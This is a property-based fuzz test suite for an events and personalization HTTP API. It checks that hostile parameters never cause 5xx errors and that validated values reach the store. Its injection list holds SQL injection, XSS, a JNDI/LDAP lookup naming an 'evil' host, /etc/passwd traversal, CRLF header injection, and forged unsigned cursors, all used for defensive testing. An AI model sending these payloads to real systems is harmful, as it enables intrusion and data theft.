/**
 * Property-based fuzzing of the query API's parameters (issue 7, hostile input): every query
 * parameter of `GET /api/v1/personalize` and `GET /api/v1/events`, and the path parameters of
 * `GET /api/v1/users/{userId}/profile` and `GET /api/v1/events/{id}`, 10,000 requests each.
 *
 * A request is a list of arguments, each either *valid* (drawn from the documented domain, with the
 * value the server must read it as) or *suspect* (wrong type, out of range, injection, huge, odd
 * encodings: it may happen to be valid). The oracle: never a 5xx; a 400 names only parameters that
 * are suspect, repeated, unknown, missing or cross-checked (lat/lon/radiusKm, from/to, cursor); a
 * request of valid arguments only answers 200 (400 on `to` when `to` is not after `from`) and the
 * store receives exactly the parsed values; every 200 body matches the route's schema; every query
 * the store receives is within the documented limits. The limits are written out here rather than
 * imported, so a schema that loosens or tightens one shows up as a counterexample.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CATEGORIES, type CatalogEvent, type Category } from '../../model/index.ts';
import type { EventSearch, EventSearchQuery, VersionedProfile } from '../../state/index.ts';
import { createQueryApp } from './app.ts';
import { createQueryAuth } from './auth.ts';
import { CatalogueIndex } from './catalogue.ts';
import { encodeCursor, filterHash, type FeedCursor } from './feed.ts';
import { ErrorBody, PersonalizeBody, ProfileBody } from './http-schemas.ts';
import { EventBody, EventSearchBody } from './search-schemas.ts';
import { catalogEvent, profileWith } from './test-events.ts';

const NOW = Date.parse('2027-03-01T00:00:00Z');
const DAY = 86_400_000;
const KEY = 'svc-fuzz';
const RUNS = 10_000;
const TIMEOUT = 120_000;
const STATUSES = ['scheduled', 'cancelled', 'postponed'] as const;
const PERSONALIZE_PARAMS = 'userId limit city lat lon radiusKm category from to maxPrice cursor'.split(' ');
const EVENTS_PARAMS = 'q city lat lon radiusKm category from to maxPrice status limit cursor'.split(' ');
/** Parameters that repeat, with their most values. */
const MULTI: Record<string, number> = { category: 10, status: 3 };

// ---- the world: a small catalogue, a few profiles, recording fakes ----------------------------

const at = (days: number) => new Date(NOW + days * DAY).toISOString();
const PARIS = { lat: 48.857, lon: 2.352 };
const EVENTS: CatalogEvent[] = [
  catalogEvent('b-music', at(1)),
  catalogEvent('b-theatre', at(2), { category: 'theatre', price: null }),
  catalogEvent('b-free', at(3), {
    category: 'exhibition',
    price: { min: 0, max: 0, currency: 'EUR', isFree: true },
  }),
  catalogEvent('b-off', at(4), { status: 'cancelled' }),
  catalogEvent('b-later', at(6), { category: 'dance', status: 'postponed' }),
  catalogEvent('p-music', at(5), { city: 'Paris', country: 'FR', venue: PARIS }),
  catalogEvent('p-comedy', at(9), { city: 'Paris', country: 'FR', category: 'comedy', venue: PARIS }),
  catalogEvent('z-cinema', at(12), {
    city: 'Zürich',
    country: 'CH',
    category: 'cinema',
    venue: { lat: 47.37, lon: 8.54 },
  }),
];
const BY_ID = new Map(EVENTS.map((e) => [e.id, e]));
const KNOWN_CITIES = new Set(EVENTS.map((e) => e.city));
const versioned = (userId: string, profile: unknown): VersionedProfile => ({
  userId,
  version: 4,
  updatedAt: NOW - DAY,
  profile,
});
const PROFILES = new Map([
  ['fan', versioned('fan', profileWith({ interests: { music: 3, theatre: 1 }, dismissedItems: ['b-free'] }))],
  ['cold', versioned('cold', profileWith({ totalEvents: 1 }))],
  ['u-a', versioned('u-a', profileWith({ home: 'Paris' }))],
]);

/** The fake store's cursors are `off-<offset>`; it refuses any other as the real store does. */
const storeCursor = (offset: number) => `off-${offset}`;
const invalidCursor = () =>
  Object.assign(new Error('cursor is not a cursor of this API'), { code: 'INVALID_CURSOR' });

function facet<V extends string>(values: V[]) {
  return [...new Set(values)].map((value) => ({ value, count: values.filter((v) => v === value).length }));
}

function setup() {
  const seen = {
    searches: [] as EventSearchQuery[],
    ids: [] as string[],
    users: [] as string[],
    cities: [] as string[],
  };
  const logged: unknown[] = [];
  const events: EventSearch = {
    get: (id) => (seen.ids.push(id), Promise.resolve(BY_ID.get(id) ?? null)),
    search: (q) => {
      seen.searches.push(q);
      const m = q.cursor === undefined ? ['', '0'] : /^off-(\d{1,3})$/.exec(q.cursor);
      if (!m) return Promise.reject(invalidCursor());
      const offset = Number(m[1]);
      const statuses: readonly string[] = q.statuses ?? ['scheduled'];
      const matches = EVENTS.filter(
        (e) =>
          statuses.includes(e.status) &&
          (!q.categories?.length || q.categories.includes(e.category)) &&
          (q.city === undefined || e.city.toLowerCase() === q.city.toLowerCase()),
      );
      const limit = q.limit ?? 20;
      return Promise.resolve({
        items: matches
          .slice(offset, offset + limit)
          .map((event) => ({ event, distanceKm: null, score: null })),
        facets: { category: facet(matches.map((e) => e.category)), city: facet(matches.map((e) => e.city)) },
        total: matches.length,
        nextCursor: offset + limit < matches.length ? storeCursor(offset + limit) : null,
      });
    },
  };
  const catalogue = new CatalogueIndex();
  for (const e of EVENTS) catalogue.upsert(e);
  catalogue.markLoaded();
  const app = createQueryApp({
    profiles: { get: (u) => (seen.users.push(u), Promise.resolve(PROFILES.get(u))) },
    auth: createQueryAuth({ keys: [KEY], jwtSecret: 'fuzz-secret-0123456789' }),
    log: { info: () => undefined, warn: () => undefined, error: (...a: unknown[]) => void logged.push(a) },
    catalogue,
    trending: {
      top: (city) => (
        seen.cities.push(city),
        Promise.resolve(city === 'Berlin' ? [{ eventId: 'b-music', score: 3 }] : [])
      ),
    },
    events,
    now: () => NOW,
  });
  const get = async (url: string) => {
    seen.searches = [];
    seen.ids = [];
    seen.users = [];
    seen.cities = [];
    const res = await app.request(url, { headers: { authorization: `Bearer ${KEY}` } });
    return { status: res.status, body: await res.json() };
  };
  return { get, seen, logged };
}

// ---- arguments and their encodings -----------------------------------------------------------

interface Arg {
  name: string;
  text: string;
  /** Valid: `parsed` is what the server must read it as. Suspect: anything (maybe valid too). */
  valid: boolean;
  parsed?: unknown;
  /** component/bytes decode back to `text` exactly; raw is `text` as typed, `%` and `+` raw. */
  enc: 'component' | 'bytes' | 'raw';
  /** `?name` without `=`: the server reads ''. */
  bare?: boolean;
}

// Lone surrogates cannot be percent-encoded (and a URL parser replaces them anyway).
const wellFormed = (s: string) => s.replace(/\p{Cs}/gu, '\ufffd');
const bytes = (s: string) =>
  [...Buffer.from(s)].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
const raw = (s: string) => s.replace(/[&#\t\n\r]/g, (c) => encodeURIComponent(c));
const encode = (s: string, enc: Arg['enc']) =>
  enc === 'component' ? encodeURIComponent(s) : enc === 'bytes' ? bytes(s) : raw(s);
const queryOf = (args: readonly Arg[]) =>
  args
    .map((a) => {
      const name = a.enc === 'bytes' ? bytes(a.name) : encodeURIComponent(a.name);
      return a.bare ? name : `${name}=${encode(a.text, a.enc)}`;
    })
    .join('&');

// Injection-looking, numeric-looking and date-looking texts ('|'-separated, to keep them compact).
const INJECTION = [
  ...`' OR 1=1 --|'; DROP TABLE events; --|" OR ""="|%00|../|../../etc/passwd`.split('|'),
  ...`..%2F..%2Fetc|*|%|_|\\|+|%2B|%25|%E0%A4%A|%ZZ|😀|İstanbul|__proto__|null|[]|{}`.split('|'),
  ...'<script>alert(1)</script>|"><img src=x onerror=alert(1)>|${jndi:ldap://evil/a}|{{7*7}}'.split('|'),
  ...'{"$gt":""}|$where|a&limit=100|x=1|#frag'.split('|'),
  '\u0000',
  '\r\nSet-Cookie: a=b',
  '\u202e',
  '\ufeff',
  'e\u0301',
];
const NUMBERISH = [
  ...'NaN|Infinity|-Infinity|1e309|-1e309|1e308|5e-324|-0|0|0x10|0b11|1_000|1,5|1.5|.5|+5| 5||  '.split('|'),
  ...'1e2|-1|101|20001|91|-181|9007199254740993'.split('|'),
  '9'.repeat(400),
];
const DATEISH = [
  ...'2027-3-1|01/03/2027|2027-02-30|2027-02-29|2027-13-01|2027-00-10|0000-01-01|9999-12-31'.split('|'),
  ...'2027-03-01T10:00:00|2027-03-01 10:00:00Z|2027-03-01T10:00:00z|2027-03-01T24:00:00Z'.split('|'),
  ...'2027-03-01T10:00:00.123456789Z|2027-03-01T10:00:00+25:00|2027-W09-1|2027-060|P1D'.split('|'),
  ...'+275760-09-13T00:00:00Z|-000001-01-01T00:00:00Z|tomorrow|1772323200000'.split('|'),
];
const LONG = [100, 101, 128, 129, 200, 201, 256, 257, 4096, 4097, 8192, 8193, 10_000].map((n) =>
  'a'.repeat(n),
);
const HUGE = ['%'.repeat(2_000), 'é'.repeat(2_000), '😀'.repeat(1_000), ' '.repeat(300), ...LONG];

const hostileText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTION, ...NUMBERISH, ...DATEISH) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE) },
  { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }) },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.integer().map(String) },
  { weight: 1, arbitrary: fc.constantFrom(...CATEGORIES, ...STATUSES, 'Music', 'opera', 'music ') },
);
const suspect = (name: string): fc.Arbitrary<Arg> =>
  fc
    .tuple(hostileText, fc.constantFrom<Arg['enc']>('component', 'bytes', 'raw', 'raw'), fc.boolean())
    .map(([t, enc, bare]) => ({ name, text: wellFormed(t), valid: false, enc, bare: t === '' && bare }));

const num = (x: number) => [String(x), Number(String(x))] as const;
const double = (min: number, max: number) => fc.double({ min, max, noNaN: true }).map(num);
const trimmed = (max: number) =>
  fc
    .oneof(
      fc.string({ minLength: 1, maxLength: 16 }).map(wellFormed),
      fc.constantFrom(...INJECTION, ' Berlin ', 'berlin', 'ZÜRICH', '東京', 'x'.repeat(max)),
    )
    .filter((s) => s.trim().length >= 1 && s.trim().length <= max)
    .map((s) => [s, s.trim()] as const);
/** An instant or a date in an accepted form, and its epoch ms (a `to` date ends with its day). */
const date = (endOfDay: boolean) =>
  fc.tuple(fc.integer({ min: 0, max: 100 * 366 * 1440 }), fc.nat(3)).map(([minutes, form]) => {
    const ms = Date.UTC(2000, 0, 1) + minutes * 60_000;
    const iso = new Date(ms).toISOString();
    if (form === 0) return [iso, ms] as const;
    if (form === 1) return [iso.replace('.000Z', 'Z'), ms] as const;
    if (form === 2) return [`${new Date(ms + 7_200_000).toISOString().slice(0, 19)}+02:00`, ms] as const;
    return [iso.slice(0, 10), Date.parse(`${iso.slice(0, 10)}T00:00:00Z`) + (endOfDay ? DAY : 0)] as const;
  });

const VALUES: Record<string, fc.Arbitrary<readonly [string, unknown]>> = {
  userId: fc
    .oneof(
      fc.constantFrom(...PROFILES.keys(), 'ghost', 'u'.repeat(128), "' OR 1=1 --", '../', '%00', ' '),
      fc.string({ minLength: 1, maxLength: 20 }).map(wellFormed),
    )
    .map((s) => [s, s] as const),
  limit: fc.integer({ min: 1, max: 100 }).map(num),
  city: trimmed(100),
  lat: double(-90, 90),
  lon: double(-180, 180),
  radiusKm: fc.oneof(double(0.001, 20_000), fc.constantFrom(num(20_000), num(5e-324))),
  maxPrice: fc.oneof(double(0, 1e6), fc.constantFrom(num(0), num(1e308))),
  from: date(false),
  to: date(true),
  q: trimmed(200),
  category: fc.constantFrom(...CATEGORIES).map((c) => [c, c] as const),
  status: fc.constantFrom(...STATUSES).map((s) => [s, s] as const),
  cursor: fc.nat(20).map((n) => [storeCursor(n), storeCursor(n)] as const),
};
const valid = (name: string): fc.Arbitrary<Arg> =>
  fc
    .tuple(VALUES[name]!, fc.constantFrom<Arg['enc']>('component', 'component', 'bytes'))
    .map(([[text, parsed], enc]) => ({ name, text, valid: true, parsed, enc }));

const unknownName = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty', 'Limit', 'userid', 'user_id'),
  fc.constantFrom(
    'categories',
    'limit[]',
    'category[0]',
    ' limit',
    'lat ',
    '\u0000',
    'q',
    'status',
    'userId',
  ),
  fc.string({ minLength: 1, maxLength: 8 }).map(wellFormed),
);
const shuffled = (args: Arg[]) =>
  fc.shuffledSubarray(args, { minLength: args.length, maxLength: args.length });

const unknownArg = (params: readonly string[]) =>
  fc
    .tuple(unknownName, hostileText)
    .filter(([name]) => !params.includes(name))
    .map(([name, t]): Arg => ({ name, text: wellFormed(t), valid: false, enc: 'component' }));

/** Each parameter absent, valid, suspect or repeated; sometimes unknown parameters; any order. */
function dirty(params: readonly string[]): fc.Arbitrary<Arg[]> {
  const slot = (name: string) =>
    fc.oneof(
      { weight: 4, arbitrary: fc.constant([]) },
      { weight: 3, arbitrary: valid(name).map((a) => [a]) },
      { weight: 3, arbitrary: suspect(name).map((a) => [a]) },
      {
        weight: 1,
        arbitrary: fc.array(fc.oneof(valid(name), suspect(name)), {
          minLength: 2,
          maxLength: (MULTI[name] ?? 2) + 1,
        }),
      },
    );
  const extra = fc.oneof(
    { weight: 5, arbitrary: fc.constant([]) },
    { weight: 1, arbitrary: fc.array(unknownArg(params), { minLength: 1, maxLength: 2 }) },
  );
  return fc
    .tuple(fc.tuple(...params.map(slot)), extra)
    .chain(([slots, more]) => shuffled([...slots.flat(), ...more]));
}

/** Valid arguments only, the cross-parameter rules kept (lat with lon, radiusKm with both). */
function clean(params: readonly string[]): fc.Arbitrary<Arg[]> {
  const maybe = (name: string) =>
    fc.option(
      valid(name).map((a) => [a]),
      { nil: [] as Arg[] },
    );
  const many = (name: string) => fc.array(valid(name), { maxLength: 3 });
  const point = fc.option(
    fc
      .tuple(valid('lat'), valid('lon'), fc.option(valid('radiusKm'), { nil: undefined }))
      .map(([la, lo, r]) => (r ? [la, lo, r] : [la, lo])),
    { nil: [] as Arg[] },
  );
  const singles = params.filter((p) => !['lat', 'lon', 'radiusKm', 'userId'].includes(p) && !(p in MULTI));
  return fc
    .tuple(
      params.includes('userId') ? valid('userId').map((a) => [a]) : fc.constant([]),
      point,
      fc.tuple(...singles.map(maybe)),
      fc.tuple(...params.filter((p) => p in MULTI).map(many)),
    )
    .chain(([user, pt, ones, multis]) => shuffled([...user, ...pt, ...ones.flat(), ...multis.flat()]));
}

/** A valid request with one fault: a value made suspect, a suspect added, a repeat, an unknown name. */
function oneFault(params: readonly string[]): fc.Arbitrary<Arg[]> {
  const singles = params.filter((p) => !(p in MULTI));
  return clean(params).chain((args) =>
    fc.oneof(
      fc
        .nat(Math.max(0, args.length - 1))
        .chain((i) =>
          args[i]
            ? suspect(args[i].name).map((s) => args.map((a, j) => (j === i ? s : a)))
            : fc.constant(args),
        ),
      fc.constantFrom(...params).chain((n) => suspect(n).map((s) => [...args, s])),
      fc
        .constantFrom(...singles)
        .chain((n) => fc.tuple(valid(n), valid(n)))
        .map(([a, b]) => [...args.filter((x) => x.name !== a.name), a, b]),
      unknownArg(params).map((u) => [...args, u]),
    ),
  );
}

/** The parameters a 400 may name: suspect, repeated, unknown, missing or cross-checked ones. */
function suspects(args: readonly Arg[], params: readonly string[]): Set<string> {
  const out = new Set<string>();
  const count = (n: string) => args.filter((a) => a.name === n).length;
  for (const a of args) {
    if (!a.valid || !params.includes(a.name)) out.add(a.name);
    if (count(a.name) > (MULTI[a.name] ?? 1)) out.add(a.name);
  }
  if (params.includes('userId') && count('userId') === 0) out.add('userId');
  if (count('lat') + count('lon') + count('radiusKm') > 0)
    ['lat', 'lon', 'radiusKm'].forEach((n) => out.add(n));
  if (count('from') > 0 && count('to') > 0) out.add('to');
  if (count('cursor') > 0) out.add('cursor');
  return out;
}

/** A valid request's parsed values, by parameter (repeating ones as lists). */
function parsedOf(args: readonly Arg[]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const a of args)
    if (a.name in MULTI) out[a.name] = [...((out[a.name] as unknown[] | undefined) ?? []), a.parsed];
    else out[a.name] = a.parsed;
  return out;
}

type Json = { error?: { code: string; message: string; errors?: Array<{ path: string; message: string }> } };

/** A 400 names at least one parameter, each one allowed, each one in the message too. */
function expectNamed(body: unknown, allowed: Set<string>): string[] {
  expect(ErrorBody.safeParse(body).success).toBe(true);
  const { error } = body as Required<Json>;
  expect(error.code).toBe('INVALID_PARAMETER');
  const paths = error.errors!.map((e) => e.path);
  expect(paths.length).toBeGreaterThan(0);
  for (const p of paths) {
    expect(allowed.has(p), `400 names "${p}", not among ${JSON.stringify([...allowed])}`).toBe(true);
    expect(error.message).toContain(`${p}: `);
  }
  return paths;
}

// ---- what the store may receive ----------------------------------------------------------------

const inRange = (v: unknown, min: number, max: number) =>
  typeof v === 'number' && Number.isFinite(v) && v >= min && v <= max;
const textOk = (v: unknown, max: number) =>
  typeof v === 'string' && v === v.trim() && v.length >= 1 && v.length <= max;

/** What is wrong with a query the store received (nothing, for a validated one). */
function searchViolations(q: EventSearchQuery): string[] {
  const bad: string[] = [];
  const keys = [
    'q',
    'city',
    'lat',
    'lon',
    'radiusKm',
    'categories',
    'fromMs',
    'toMs',
    'maxPrice',
    'statuses',
    'limit',
    'cursor',
  ];
  for (const k of Object.keys(q)) if (!keys.includes(k)) bad.push(`unexpected key ${k}`);
  if (Object.getPrototypeOf(q) !== Object.prototype) bad.push('not a plain object');
  const has = (k: keyof EventSearchQuery) => q[k] !== undefined;
  if (has('q') && !textOk(q.q, 200)) bad.push('q');
  if (has('city') && !textOk(q.city, 100)) bad.push('city');
  if (has('lat') !== has('lon') || (has('lat') && !(inRange(q.lat, -90, 90) && inRange(q.lon, -180, 180))))
    bad.push('lat/lon');
  if (has('radiusKm') && !(has('lat') && inRange(q.radiusKm, Number.MIN_VALUE, 20_000))) bad.push('radiusKm');
  if (has('maxPrice') && !inRange(q.maxPrice, 0, Number.MAX_VALUE)) bad.push('maxPrice');
  for (const k of ['fromMs', 'toMs'] as const) if (has(k) && !inRange(q[k], -8.64e15, 8.64e15)) bad.push(k);
  if (has('fromMs') && has('toMs') && !(q.toMs! > q.fromMs!)) bad.push('toMs <= fromMs');
  const list = (v: unknown, of: readonly string[], max: number) =>
    Array.isArray(v) && v.length >= 1 && v.length <= max && v.every((x) => of.includes(x as string));
  if (has('categories') && !list(q.categories, CATEGORIES, 10)) bad.push('categories');
  if (has('statuses') && !list(q.statuses, STATUSES, 3)) bad.push('statuses');
  if (!(Number.isInteger(q.limit) && inRange(q.limit, 1, 100))) bad.push('limit');
  if (has('cursor') && !/^[A-Za-z0-9_-]{1,4096}$/.test(q.cursor!)) bad.push('cursor');
  return bad;
}

/** How often each outcome came up: a fuzzer that only ever hits one branch proves little. */
function tally() {
  const counts = new Map<string, number>();
  return {
    add: (key: string) => counts.set(key, (counts.get(key) ?? 0) + 1),
    of: (key: string) => counts.get(key) ?? 0,
  };
}

/** Valid requests answered, faults named, and some suspect values accepted (and checked) too. */
function expectReached(outcomes: ReturnType<typeof tally>) {
  for (const outcome of ['clean 200', 'fault 400', 'dirty 400'])
    expect(outcomes.of(outcome), outcome).toBeGreaterThan(RUNS / 20);
  expect(outcomes.of('fault 200'), 'fault 200').toBeGreaterThan(0);
}

const isBackwards = (p: Record<string, unknown>) =>
  p.from !== undefined && p.to !== undefined && (p.to as number) <= (p.from as number);
const TO_BEFORE_FROM = [{ path: 'to', message: 'to must be after from' }];

// ---- GET /api/v1/events ------------------------------------------------------------------------

describe('fuzzing GET /api/v1/events', () => {
  it(
    'never answers 5xx, names the parameter at fault, passes the store only validated values',
    async () => {
      const { get, seen, logged } = setup();
      const seenOutcomes = tally();
      const request = fc.oneof(
        dirty(EVENTS_PARAMS).map((args) => ({ args, mode: 'dirty' })),
        oneFault(EVENTS_PARAMS).map((args) => ({ args, mode: 'fault' })),
        clean(EVENTS_PARAMS).map((args) => ({ args, mode: 'clean' })),
      );
      await fc.assert(
        fc.asyncProperty(request, async ({ args, mode }) => {
          const { status, body } = await get(`/api/v1/events?${queryOf(args)}`);
          seenOutcomes.add(`${mode} ${status}`);
          expect([200, 400]).toContain(status);
          for (const q of seen.searches) expect(searchViolations(q)).toEqual([]);
          if (status === 200) {
            expect(EventSearchBody.safeParse(body).success).toBe(true);
            expect(seen.searches).toHaveLength(1);
          } else {
            const paths = expectNamed(body, suspects(args, EVENTS_PARAMS));
            // The store is asked only once every parameter is valid (it may then refuse the cursor).
            if (paths.join() !== 'cursor') expect(seen.searches).toEqual([]);
          }
          if (mode !== 'clean') return;
          const p = parsedOf(args);
          if (isBackwards(p)) {
            expect({ status, errors: (body as Json).error?.errors }).toEqual({
              status: 400,
              errors: TO_BEFORE_FROM,
            });
            return;
          }
          expect(status).toBe(200);
          expect(seen.searches).toEqual([
            {
              q: p.q,
              city: p.city,
              lat: p.lat,
              lon: p.lon,
              radiusKm: p.radiusKm,
              categories: p.category,
              fromMs: p.from,
              toMs: p.to,
              maxPrice: p.maxPrice,
              statuses: p.status,
              limit: p.limit ?? 20,
              cursor: p.cursor,
            },
          ]);
        }),
        { numRuns: RUNS },
      );
      expect(logged).toEqual([]);
      expectReached(seenOutcomes);
    },
    TIMEOUT,
  );
});

// ---- GET /api/v1/personalize -------------------------------------------------------------------

/** A cursor's fields (all within its schema) for a cursor the server could have written. */
const forged = fc.record({
  g: fc.oneof(
    fc.constantFrom(NOW, 0, 8.64e15),
    fc.nat().map((n) => n * 1_000_000),
  ),
  pv: fc.nat(),
  st: fc.constantFrom('personalized', 'trending', 'soonest'),
  i: fc.dictionary(fc.constantFrom(...CATEGORIES), fc.double({ min: 0, max: 1, noNaN: true })),
  o: fc.option(
    fc.tuple(fc.double({ min: -90, max: 90, noNaN: true }), fc.double({ min: -180, max: 180, noNaN: true })),
    { nil: null },
  ),
  c: fc.option(fc.constantFrom('Berlin', 'paris', 'nowhere'), { nil: null }),
  s: fc.double({ noNaN: true, noDefaultInfinity: true }),
  id: fc.string({ minLength: 1, maxLength: 8 }),
  t: fc
    .array(
      fc.nat().map((n) => n.toString(16).padStart(8, '0')),
      { maxLength: 3 },
    )
    .map((a) => a.join('')),
}) as fc.Arbitrary<Omit<FeedCursor, 'v' | 'f'>>;

const b64 = (s: string) => Buffer.from(s).toString('base64url');
/** Cursors from nowhere: random base64url, any JSON in base64url, the cursor's shape with another hash. */
const junkCursor: fc.Arbitrary<Arg> = fc
  .oneof(
    fc.uint8Array({ maxLength: 48 }).map((b) => Buffer.from(b).toString('base64url')),
    fc.jsonValue({ maxDepth: 2 }).map((j) => b64(JSON.stringify(j))),
    forged.map((c) => b64(JSON.stringify({ v: 1, f: 'AAAAAAAAAAAAAAAA', ...c }))),
    fc
      .record({ v: fc.constantFrom(1, 2, '1'), f: fc.string(), g: fc.oneof(fc.integer(), fc.double()) })
      .map((c) => b64(JSON.stringify(c))),
    fc.constantFrom('eyJ2IjoxfQ==', 'eyJ2IjoxfQ.', '!!', 'a'.repeat(8193), `${b64('{"v":1,"s":1')}e309`),
  )
  .map((text) => ({ name: 'cursor', text, valid: false, enc: 'component' }));

/** The cursor the server would accept for a valid request, its other fields forged. */
function cursorFor(p: Record<string, unknown>, fields: Omit<FeedCursor, 'v' | 'f'>): string {
  const n = (k: string) => p[k] as number | undefined;
  const f = filterHash({
    userId: p.userId as string,
    limit: n('limit') ?? 20,
    city: p.city as string | undefined,
    lat: n('lat'),
    lon: n('lon'),
    radiusKm: n('radiusKm'),
    categories: p.category as Category[] | undefined,
    fromMs: n('from'),
    toMs: n('to'),
    maxPrice: n('maxPrice'),
  });
  return encodeCursor({ v: 1, f, ...fields });
}

describe('fuzzing GET /api/v1/personalize', () => {
  it(
    'never answers 5xx, names the parameter at fault, answers valid requests with the schema',
    async () => {
      const { get, seen, logged } = setup();
      const seenOutcomes = tally();
      const params = PERSONALIZE_PARAMS.filter((p) => p !== 'cursor');
      const request = fc.oneof(
        fc.tuple(dirty(params), fc.option(junkCursor, { nil: undefined, freq: 4 })).map(([args, cursor]) => ({
          args: cursor ? [...args, cursor] : args,
          mode: 'dirty',
          forge: undefined,
        })),
        fc
          .tuple(oneFault(params), fc.option(junkCursor, { nil: undefined, freq: 8 }))
          .map(([args, cursor]) => ({
            args: cursor ? [...args, cursor] : args,
            mode: 'fault',
            forge: undefined,
          })),
        fc
          .tuple(clean(params), fc.option(forged, { nil: undefined, freq: 3 }))
          .map(([args, forge]) => ({ args, mode: 'clean', forge })),
      );
      await fc.assert(
        fc.asyncProperty(request, async ({ args, mode, forge }) => {
          const p = mode === 'clean' ? parsedOf(args) : undefined;
          const cursor = p && forge ? `&cursor=${cursorFor(p, forge)}` : '';
          const { status, body } = await get(`/api/v1/personalize?${queryOf(args)}${cursor}`);
          seenOutcomes.add(`${mode} ${status}`);
          expect([200, 400]).toContain(status);
          if (status === 200) {
            expect(PersonalizeBody.safeParse(body).success).toBe(true);
            const { userId } = body as PersonalizeBody;
            expect(userId.length >= 1 && userId.length <= 128).toBe(true);
            expect(seen.users).toEqual([userId]);
            // Without a cursor, trending is asked only about a validated city or the catalogue's.
            if (!args.some((a) => a.name === 'cursor') && !cursor)
              for (const c of seen.cities) expect(KNOWN_CITIES.has(c) || textOk(c, 100), c).toBe(true);
          } else {
            const paths = expectNamed(body, suspects(args, PERSONALIZE_PARAMS));
            // The profile is read only once the parameters are valid (the cursor is decoded after).
            if (paths.join() !== 'cursor') expect(seen.users).toEqual([]);
          }
          if (!p) return;
          if (isBackwards(p)) {
            expect({ status, errors: (body as Json).error?.errors }).toEqual({
              status: 400,
              errors: TO_BEFORE_FROM,
            });
            return;
          }
          expect(status).toBe(200);
          const feed = body as PersonalizeBody;
          expect(feed.userId).toBe(p.userId);
          expect(feed.generatedAt).toBe(new Date(forge?.g ?? NOW).toISOString());
          expect(feed.items.length).toBeLessThanOrEqual((p.limit as number | undefined) ?? 20);
          const categories = p.category as string[] | undefined;
          if (categories) for (const item of feed.items) expect(categories).toContain(item.category);
        }),
        { numRuns: RUNS },
      );
      expect(logged).toEqual([]);
      expectReached(seenOutcomes);
    },
    TIMEOUT,
  );

  // Cursors are not signed and their filter hash is an unkeyed hash of the request, so the clock
  // `g` is forgeable: beyond the Date range (8.64e15 ms) it used to make rankFeed throw (a 500).
  it('answers 400 on cursor, not 500, for a forged cursor whose clock is beyond the Date range', async () => {
    const { get } = setup();
    const fields = {
      g: 9e15,
      pv: 0,
      st: 'soonest',
      i: {},
      o: null,
      c: null,
      s: 1,
      id: 'x',
      t: '',
    } as const;
    const { status, body } = await get(
      `/api/v1/personalize?userId=fan&cursor=${cursorFor({ userId: 'fan' }, fields)}`,
    );
    expect({ status, code: (body as Json).error?.code }).toEqual({
      status: 400,
      code: 'INVALID_PARAMETER',
    });
  });
});

// ---- path parameters -------------------------------------------------------------------------

const segment = fc.tuple(
  fc.oneof(
    hostileText,
    VALUES.userId!.map(([t]) => t),
    fc.constantFrom(...BY_ID.keys(), '.', '..', ''),
  ),
  fc.constantFrom<Arg['enc']>('component', 'component', 'bytes', 'raw'),
  fc.option(dirty(['limit', 'userId']), { nil: undefined, freq: 4 }),
);

describe.each([
  {
    route: '/api/v1/users/{userId}/profile',
    url: (s: string) => `/api/v1/users/${s}/profile`,
    name: 'userId',
    max: 128,
    codes: ['INVALID_USER_ID', 'PROFILE_NOT_FOUND'],
    lookups: (seen: { users: string[] }) => seen.users,
    stored: (id: string): unknown => PROFILES.get(id),
    schema: ProfileBody,
  },
  {
    route: '/api/v1/events/{id}',
    url: (s: string) => `/api/v1/events/${s}`,
    name: 'id',
    max: 256,
    codes: ['INVALID_EVENT_ID', 'EVENT_NOT_FOUND'],
    lookups: (seen: { ids: string[] }) => seen.ids,
    stored: (id: string): unknown => BY_ID.get(id),
    schema: EventBody,
  },
])('fuzzing the path parameter of $route', ({ url, name, max, codes, lookups, stored, schema }) => {
  it(
    `never answers 5xx; {${name}} is looked up exactly as sent up to ${max} characters, longer is a 400 naming it`,
    async () => {
      const { get, seen, logged } = setup();
      const seenOutcomes = tally();
      await fc.assert(
        fc.asyncProperty(segment, async ([t, enc, query]) => {
          const text = wellFormed(t);
          const { status, body } = await get(url(encode(text, enc)) + (query ? `?${queryOf(query)}` : ''));
          seenOutcomes.add(String(status));
          expect([200, 400, 404]).toContain(status);
          const looked = lookups(seen);
          for (const id of looked) expect(id.length >= 1 && id.length <= max).toBe(true);
          expect((status === 200 ? schema : ErrorBody).safeParse(body).success).toBe(true);
          if (status === 400)
            expect((body as Required<Json>).error).toMatchObject({
              code: codes[0],
              errors: [{ path: name }],
            });
          if (enc === 'raw') return;
          // Exactly encoded, the server reads the text itself ('.' and '..' are dot segments of the URL).
          const expected =
            text === '' || text === '.' || text === '..'
              ? { status: 404, code: 'NOT_FOUND', looked: [] }
              : text.length > max
                ? { status: 400, code: codes[0], looked: [] }
                : stored(text)
                  ? { status: 200, code: undefined, looked: [text] }
                  : { status: 404, code: codes[1], looked: [text] };
          expect({ status, code: (body as Json).error?.code, looked }).toEqual(expected);
          if (status === 200) expect(body).toEqual(stored(text));
        }),
        { numRuns: RUNS },
      );
      expect(logged).toEqual([]);
      for (const outcome of ['200', '400', '404'])
        expect(seenOutcomes.of(outcome), outcome).toBeGreaterThan(RUNS / 100);
    },
    TIMEOUT,
  );
});

// The profile route used to serve the stored snapshot as it was, so a snapshot that does not match
// the model (an older writer, a bad migration) was a 200 whose body broke the documented ProfileBody.
it('answers the profile route with a body matching ProfileBody even when the snapshot is not the model', async () => {
  const broken = { userId: 'broken', version: 1, updatedAt: NOW, profile: { interests: 'none' } };
  const app = createQueryApp({
    profiles: { get: () => Promise.resolve(broken as unknown as VersionedProfile) },
    auth: createQueryAuth({ keys: [KEY] }),
    log: { info: () => undefined, warn: () => undefined, error: () => undefined },
    catalogue: new CatalogueIndex(),
    trending: { top: () => Promise.resolve([]) },
    events: { get: () => Promise.resolve(null), search: () => Promise.reject(new Error('unused')) },
  });
  const res = await app.request('/api/v1/users/broken/profile', {
    headers: { authorization: `Bearer ${KEY}` },
  });
  const body: unknown = await res.json();
